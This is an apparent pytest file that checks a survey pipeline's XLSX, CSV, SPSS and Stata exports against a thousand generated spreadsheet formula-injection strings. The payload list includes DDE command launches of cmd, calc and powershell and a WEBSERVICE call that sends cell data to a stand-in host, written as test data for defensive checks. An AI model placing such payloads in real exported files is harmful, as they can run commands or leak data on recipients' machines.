"""A thousand texts that want to be formulas: as answers and as labels they arrive as texts, in every format."""

import csv
import io
import re
import zipfile
from functools import cache
from itertools import product
from pathlib import Path

import pyreadstat
import pytest
from python_calamine import CalamineWorkbook

from calm_pipeline.dissemination import delimited, spss, stata
from calm_pipeline.dissemination.edition import Edition
from calm_pipeline.dissemination.matrix import matrix
from calm_pipeline.dissemination.variables import variables
from calm_pipeline.dissemination.wording import in_bytes, in_characters, plain
from calm_pipeline.dissemination.workbook import edition_workbook
from calm_pipeline.escape import FORMULA, formula_safe
from tests.dissemination.editions import made, small_survey, words

STARTS = (
    *(
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\r\n=",
        "＝",
        "＋",
        "－",
        "＠",
        "'=",
        "''+",
        "'",
        '"=',
        '"',
        ";=",
        ",=",
    ),
    *("\ufeff=", "\u200b=", " =", "\u00a0=", "\u202e=", "==", "+-@=", "|", "%", "{=", "<r>=", "﹢", "﹣"),
)
BODIES = (
    *("1+1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "cmd|'/C powershell'!_xlbgnm.A1", 'DDE("cmd";"/C calc";"x")'),
    *('HYPERLINK("http://a.example","甲")', "HYPERLINK('http://a.example';'b')", 'IMPORTXML("http://a.example","//a")'),
    *(
        'WEBSERVICE("http://a.example/"&A1)',
        "MSEXCEL|'\\..\\..\\x'!''",
        "rundll32|'a,b'!A",
        '"a","b"',
        "a\n=1+1",
        "a\r=b",
    ),
    *(
        "a,=1",
        "a;=1",
        "a\t=1",
        "'",
        '"',
        "1}",
        "<t>&amp;</t></r>",
        "_x003D_1",
        "NA",
        "",
        "图书馆",
        "2e3",
        "é",
        "\U0001f4da",
    ),
    *("9" * 40, "x" * 300, "INDIRECT(A1)", "@SUM(1)", "$A$1", "'!A1"),
)
PAYLOADS = tuple(start + body for start, body in product(STARTS, BODIES))[:1000]


def undone(cell: str) -> str:
    """What was written, by the rule that the data package states."""
    rest = cell.lstrip("'")
    return cell[1:] if cell.startswith("'") and (rest == delimited.NULL or rest.startswith(tuple(FORMULA))) else cell


@cache
def as_answers() -> Edition:
    survey = small_survey(remark={"type": "text", **words("remark")})
    return made(survey, [{"remark": payload} for payload in PAYLOADS])


@cache
def as_labels() -> Edition:
    option = {str(f"o{n}"): {"en": f"{one}.", "zh": f"{one}。"} for n, one in enumerate(PAYLOADS)}
    question = {"type": "single", **words("pick"), "options": option}
    return made(small_survey(pick=question), [{"pick": "o0"}, {"pick": "o999"}])


def test_there_are_a_thousand_different_ones_and_most_begin_like_a_formula() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 1000
    assert sum(one.startswith(tuple(FORMULA)) for one in PAYLOADS) > 400


@pytest.mark.parametrize("edition", [as_answers, as_labels])
def test_no_workbook_holds_a_formula_or_a_link(edition: object) -> None:
    content = edition_workbook(edition(), "en")  # type: ignore[operator]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        names = parts.namelist()
        text = {name: parts.read(name).decode() for name in names}
    assert not [name for name in names if re.search("calcChain|externalLink|vba|connections|drawing", name)]
    for name, xml in text.items():
        assert not re.search(r"<(?:\w+:)?(?:f|hyperlink|ddeLink|oleLink)[ />]", xml), name
        if "worksheets" in name and name.endswith(".xml"):
            assert set(re.findall(r' t="(\w+)"', xml)) <= {"s", "b"}


def test_every_answer_is_the_same_text_in_the_workbook() -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(edition_workbook(as_answers(), "en")))
    _, *rows = book.get_sheet_by_name("answers").to_python()
    seen = [row[-1] for row in rows]
    assert all(isinstance(one, str) for one in seen)
    assert [_lines(str(one)) for one in seen] == [_lines(one) for one in PAYLOADS]


def _lines(text: str) -> str:
    """XML has one line end; a workbook may hold CR as one of its own escapes."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_every_answer_is_harmless_in_csv_and_can_be_told_again() -> None:
    _, *rows = csv.reader(io.StringIO(delimited.csv_text(as_answers().tables["answers"]), newline=""))
    cells = [row[-1] for row in rows]
    assert not [cell for cell in cells if cell.startswith(tuple(FORMULA))]
    assert [undone(cell) for cell in cells] == list(PAYLOADS)


@pytest.mark.parametrize("payload", ["", "'", "'a", "NA", "''=", "'-"])
def test_taking_the_apostrophe_off_gives_back_what_was_written(payload: str) -> None:
    assert undone(delimited.cell(payload)) == payload
    assert formula_safe(payload)[-len(payload) :] == payload or not payload


@pytest.mark.parametrize("to", ["sav", "dta"])
def test_every_answer_arrives_in_the_statistical_packages(to: str, tmp_path: Path) -> None:
    found = variables(as_answers().survey)
    file, cells = tmp_path / f"a.{to}", matrix(as_answers(), found)
    write, read = (spss.write_sav, pyreadstat.read_sav) if to == "sav" else (stata.write_dta, pyreadstat.read_dta)
    write(as_answers(), found, cells, "en", file)
    frame, _ = read(str(file))
    assert [one.rstrip(" ") for one in frame["remark"]] == [one.rstrip(" ") for one in PAYLOADS]


@pytest.mark.parametrize("to", ["sav", "dta"])
@pytest.mark.parametrize(("language", "end"), [("en", "."), ("zh", "。")])
def test_every_label_is_one_line_of_the_same_text(to: str, language: str, end: str, tmp_path: Path) -> None:
    found = variables(as_labels().survey)
    file, cells = tmp_path / f"a.{to}", matrix(as_labels(), found)
    if to == "sav":
        spss.write_sav(as_labels(), found, cells, language, file)
        _, about = pyreadstat.read_sav(str(file))
        expected = [in_bytes(plain(one + end), spss.LONGEST_VALUE) for one in PAYLOADS]
    else:
        stata.write_dta(as_labels(), found, cells, language, file)
        _, about = pyreadstat.read_dta(str(file))
        expected = [plain(one + end) for one in PAYLOADS]
    labels = about.variable_value_labels["pick"]
    assert [labels[number] for number in range(1, 1001)] == expected
    assert in_characters("a" * 9, 4) == "aaa…"
